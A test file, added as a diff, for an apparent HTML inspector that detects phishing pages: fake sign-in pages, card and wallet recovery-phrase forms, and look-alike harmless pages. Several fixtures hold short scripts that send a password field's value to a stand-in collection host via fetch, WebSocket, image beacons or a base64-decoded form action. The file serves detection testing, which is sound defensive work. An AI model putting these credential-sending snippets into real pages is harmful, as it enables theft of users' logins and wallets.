@@ -1,0 +1,139 @@
+/** Pages that ask for a password, a card or the words of a wallet: what is stolen, and harmless pages that resemble it. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { WORDS_MIN } from './fields.ts'
+import { ARTICLE_MIN } from './forms.ts'
+import { SHORT_MAX, START_MAX } from './posing.ts'
+
+const { inspect } = useInspector()
+
+/** The worst finding about a form. */
+function found(page: string): string | undefined {
+  const { findings, obstacle } = inspect(Buffer.from(page))
+  assert.equal(obstacle, null)
+  const ids = ['FalseLogin', 'Phishing', 'CredentialForm', 'SavedLogin']
+  return ids.find((id) => findings.some((finding) => finding.id === `Docvet.Html.${id}`))
+}
+
+const KIT = 'https://secure-docs.example/collect.php'
+const page = (title: string, body: string, script = ''): string =>
+  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}<script>${script}</script></body></html>`
+const FIELDS = '<input type="email" name="mail"><input type="password" name="pin">'
+const form = (action: string, fields = FIELDS): string => `<form action="${action}" method="post">${fields}</form>`
+const asking = (field: string): string => page('Sign in', form(KIT, `<input name="a">${field}`))
+const wallet = (fields: string): string => page('Wallet', form(KIT, fields))
+const words = (count: number): string =>
+  Array.from({ length: count }, (_, index) => `<input name="w${index + 1}">`).join('')
+const sending = (script: string): string =>
+  page('Mail', '<input id="pin" type="password"><button onclick="go()">Open</button>', `function go(){${script}}`)
+const VALUE = 'document.getElementById("pin").value'
+
+suite('a page that poses as a sign-in page', () => {
+  const pages: Record<string, string> = {
+    'the name of a company as the title': page('Microsoft 365 - Sign in', form(KIT)),
+    'in two words': page('Sign in', `<h1>Office 365</h1>${form(KIT)}`),
+    'in a heading': page('Document', `<h2 class="x">DocuSign</h2>${form(KIT)}`),
+    'as the text of a logo': page('Sign in', `<img src="a.png" alt="PayPal">${form(KIT)}`),
+    'where the page begins': page('Sign in', `<div>Microsoft</div>${form(KIT)}`),
+    'a full mailbox': page('Mail', `<p>Your mailbox is almost full.</p>${form(KIT)}`),
+    'an expired session': page('Mail', `<p>Your session has expired.</p>${form(KIT)}`),
+    'a server of the company where anybody can publish': page('Microsoft', form('https://login.azurewebsites.net/a')),
+    'the name of the company before the address': page('Microsoft', form('https://login.live.com@kit.example/a')),
+    'words of a wallet': wallet('<textarea placeholder="Enter your 12-word recovery phrase"></textarea>'),
+    'a field for each word of a wallet': wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN)}`),
+  }
+  for (const [name, content] of Object.entries(pages)) test(name, () => assert.equal(found(content), 'FalseLogin'))
+})
+
+suite('a page that sends a password by', () => {
+  const ways: Record<string, [string, string]> = {
+    'a request': ['CredentialForm', sending(`fetch("${KIT}",{method:"POST",body:${VALUE}})`)],
+    'a socket': ['CredentialForm', sending(`new WebSocket("wss://kit.example/s").send(${VALUE})`)],
+    'a picture': ['CredentialForm', sending(`new Image().src="${KIT}?p="+${VALUE}`)],
+    'a picture of the page': [
+      'CredentialForm',
+      sending(`var i=document.createElement("img");i.src="${KIT}?p="+encodeURIComponent(${VALUE})`),
+    ],
+    'a form whose address is decoded': [
+      'Phishing',
+      page(
+        'Mail',
+        '<form id="f"><input type="password"></form>',
+        `document.getElementById("f").action=atob("${btoa(KIT)}")`,
+      ),
+    ],
+    'a service for forms': ['Phishing', page('Mail', form('https://api.web3forms.com/submit'))],
+    'a survey': ['Phishing', page('Mail', form('https://docs.google.com/forms/d/e/1/formResponse'))],
+  }
+  for (const [name, [id, content]] of Object.entries(ways)) test(name, () => assert.equal(found(content), id))
+})
+
+suite('a field for a password that is', () => {
+  const fields: Record<string, string> = {
+    'called so by its placeholder': '<input name="b" placeholder="Your e-mail password">',
+    'called so in another language': '<input name="b" placeholder="Mot de passe">',
+    'called so by a label': '<label for="b">Password</label><input id="b" name="b">',
+    'masked by a style': '<style>.m{-webkit-text-security: disc}</style><input class="m" name="b">',
+    'a part of the text that can be edited': '<div contenteditable aria-label="Password"></div>',
+    'the code and number of a card': '<input placeholder="Card number"><input autocomplete="cc-csc">',
+  }
+  for (const [name, field] of Object.entries(fields))
+    test(name, () => assert.equal(found(asking(field)), 'CredentialForm'))
+
+  test('made one by a script', () => {
+    const script = 'document.getElementById("b").type="pass"+"word"'
+    assert.equal(found(page('Mail', form(KIT, '<input id="b" name="b">'), script)), 'CredentialForm')
+  })
+})
+
+suite('a harmless page', () => {
+  const pages: Record<string, [string | undefined, string]> = {
+    'of a company that was saved': ['SavedLogin', page('Microsoft', form('https://login.live.com/post.srf'))],
+    'of a company whose messages are encrypted': ['SavedLogin', page('Cisco', form('https://res.cisco.com/open'))],
+    'of a program that others run': [
+      'CredentialForm',
+      page('Citrix Gateway', form('https://vpn.contoso.example/login')),
+    ],
+    'that offers to sign in with a company': [
+      'CredentialForm',
+      page('Log in', `<h1>Continue with Google</h1>${form('https://contoso.example/login')}`),
+    ],
+    'that counts its readers': [undefined, page('App', form('/login'), `new Image().src="${KIT}?u="+location.href`)],
+    'with a survey': [
+      undefined,
+      page('Survey', form('https://docs.google.com/forms/d/e/1/formResponse', '<input name="q">')),
+    ],
+    'with a generator of passwords': [
+      undefined,
+      page('Tool', '<input type="password" id="p">', 'p.value=Math.random()'),
+    ],
+    'that takes cards for its own site': [
+      undefined,
+      page('Shop', form('/pay', '<input name="cardnumber"><input name="cvc">')),
+    ],
+    'about the words of wallets': [
+      undefined,
+      page('Help', `<p>Never enter your recovery phrase.</p>${form(KIT, '<input name="q">')}`),
+    ],
+    'with a crossword': [undefined, page('Game', form(KIT, words(WORDS_MIN)))],
+    'with fewer words than a wallet has': [undefined, wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN - 1)}`)],
+  }
+  for (const [name, [id, content]] of Object.entries(pages)) test(name, () => assert.equal(found(content), id))
+
+  const text = (length: number): string => 'Read this. '.repeat(Math.ceil(length / 11)).slice(0, length)
+  test('whose text is an article', () => {
+    const article = (length: number): string => page('Microsoft', `<p>${text(length)}</p>${form(KIT)}`)
+    assert.equal(found(article(ARTICLE_MIN / 2)), 'FalseLogin')
+    assert.equal(found(article(ARTICLE_MIN)), 'CredentialForm')
+  })
+
+  test('that names a company further on, or has more to read', () => {
+    const named = (before: number, after: number): string =>
+      page('x', `<p>${text(before)} Microsoft</p>${form(KIT)}<p>${text(after)}</p>`)
+    assert.equal(found(named(START_MAX / 2, 0)), 'FalseLogin')
+    assert.equal(found(named(START_MAX, 0)), 'CredentialForm')
+    assert.equal(found(named(START_MAX / 2, SHORT_MAX)), 'CredentialForm')
+  })
+})
